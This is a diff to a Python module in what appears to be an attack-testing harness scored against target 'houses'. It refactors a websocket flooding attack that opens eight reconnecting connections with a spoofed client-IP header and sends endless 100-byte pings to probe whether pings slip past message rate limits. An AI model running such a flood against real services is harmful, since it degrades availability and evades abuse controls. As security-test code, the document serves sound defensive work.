@@ -3,7 +3,8 @@
 import asyncio
 
 import aiohttp
-from tools.attack.house import HEADER, House, Outcome, beside
+from tools.attack.beside import beside
+from tools.attack.house import HEADER, House, Outcome
 
 POINTS = (11,)
 
@@ -11,9 +12,9 @@ POINTS = (11,)
 async def attack(house: House) -> Outcome:
     sent = 0
 
-    async def stranger(session: aiohttp.ClientSession) -> None:
+    async def stranger(target: House, session: aiohttp.ClientSession) -> None:
         nonlocal sent
-        async with session.ws_connect(f"{house.url}/ws", autoping=False) as socket:
+        async with session.ws_connect(f"{target.url}/ws", autoping=False) as socket:
             await socket.send_json({"type": "hello"})
             while not socket.closed:
                 await socket.ping(b"x" * 100)
@@ -21,16 +22,16 @@ async def attack(house: House) -> Outcome:
                 if sent % 100 == 0:
                     await asyncio.sleep(0)
 
-    async def again(session: aiohttp.ClientSession) -> None:
+    async def again(target: House, session: aiohttp.ClientSession) -> None:
         while True:
             try:
-                await stranger(session)
+                await stranger(target, session)
             except (aiohttp.ClientError, ConnectionError):
                 await asyncio.sleep(0.05)
 
-    async def flood() -> None:
+    async def flood(target: House) -> None:
         async with aiohttp.ClientSession(headers={HEADER: "203.0.113.9"}) as session:
-            await asyncio.gather(*(again(session) for _ in range(8)))
+            await asyncio.gather(*(again(target, session) for _ in range(8)))
 
     outcome = await beside(house, "pings count like messages", flood)
     return outcome._replace(figures=f"{sent} pings sent; {outcome.figures}")
